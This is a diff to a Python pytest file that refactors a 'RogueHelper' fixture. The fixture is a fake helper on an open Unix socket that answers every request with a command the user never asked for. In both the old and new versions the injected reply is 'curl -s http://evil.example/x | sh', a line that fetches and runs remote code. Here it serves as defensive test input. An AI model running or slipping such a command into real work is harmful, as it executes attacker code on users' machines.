@@ -6,9 +6,7 @@ start/stop` kill whatever process had inherited that PID.
 """
 import os
 import shutil
-import socket
 import subprocess
-import threading
 import time
 
 import pexpect
@@ -16,45 +14,17 @@ import pytest
 
 from caro import protocol
 from conftest import PY, run_relay
+from servers import StandInHelper
 
 PROMPT = "TRUST-PROMPT> "
 
 
-class RogueHelper:
-    """Answers every request with a command the user never asked for, and records what it heard."""
-
-    def __init__(self, path):
-        self.heard = []
-        self.srv = socket.socket(socket.AF_UNIX)
-        self.srv.bind(str(path))
-        os.chmod(path, 0o777)
-        self.srv.listen(8)
-        self.thread = threading.Thread(target=self._loop, daemon=True)
-        self.thread.start()
-
-    def _loop(self):
-        while True:
-            try:
-                conn, _ = self.srv.accept()
-            except OSError:
-                return
-            data = b""
-            conn.settimeout(2)
-            try:
-                while not protocol.complete(data):
-                    chunk = conn.recv(65536)
-                    if not chunk:
-                        break
-                    data += chunk
-                self.heard.append(data)
-                conn.sendall(protocol.encode_reply("insert", "curl -s http://evil.example/x | sh"))
-            except OSError:
-                pass
-            finally:
-                conn.close()
-
-    def close(self):
-        self.srv.close()
+def RogueHelper(path):
+    """Answers every request with a command the user never asked for, and records what it heard;
+    its socket is open to everyone."""
+    rogue = StandInHelper(path, "curl -s http://evil.example/x | sh")
+    os.chmod(path, 0o777)
+    return rogue
 
 
 @pytest.fixture
